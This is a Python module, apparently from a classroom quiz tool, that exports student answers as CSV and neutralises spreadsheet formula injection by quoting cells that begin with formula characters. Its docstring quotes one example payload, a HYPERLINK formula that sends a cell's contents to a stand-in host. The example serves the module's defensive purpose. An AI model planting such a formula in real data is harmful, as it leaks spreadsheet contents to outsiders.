"""The teacher's download of a room's answers, as CSV a spreadsheet opens safely.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets, and a display name or an answer is typed by a
stranger: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks data, older spreadsheets ran
commands (OWASP, "CSV Injection"). Such a cell gets a leading single quote, which the
spreadsheet shows as text. Plain numbers (``-3``, ``+1.5``) are left as they are: they are not
formulas and a teacher wants them as numbers. The full-width forms of those signs are
treated the same way, as some spreadsheets accept them too.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import datetime, timezone

from .store import AnswerRow

__all__ = ["CSV_HEADER", "answers_csv", "csv_cell"]

CSV_HEADER = ("name", "question", "answer", "correct", "time (UTC)")
_FORMULA_START = tuple("=+-@\t\r\n") + tuple("\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cell(value: str) -> str:
    """``value`` as a cell that no spreadsheet runs as a formula."""
    stripped = value.lstrip(" ")
    if stripped.startswith(_FORMULA_START) and not _NUMBER.fullmatch(stripped):
        return "'" + value
    return value


def _verdict(correct: bool | None) -> str:
    return "" if correct is None else ("yes" if correct else "no")


def answers_csv(rows: Iterable[AnswerRow], header: Sequence[str] = CSV_HEADER) -> bytes:
    """The rows as CSV bytes: UTF-8 with a byte order mark (so Excel reads Chinese names right),
    one row per answer, times as ISO 8601 in UTC. ``header``: the column names (translated by
    the caller when it wants)."""
    if len(header) != len(CSV_HEADER):
        raise ValueError(f"the header has {len(header)} names; the rows have {len(CSV_HEADER)} columns")
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([csv_cell(h) for h in header])
    for r in rows:
        when = datetime.fromtimestamp(r.at, tz=timezone.utc).isoformat(timespec="seconds")
        writer.writerow([csv_cell(r.name), csv_cell(r.step), csv_cell(r.answer), _verdict(r.correct), when])
    return out.getvalue().encode("utf-8-sig")
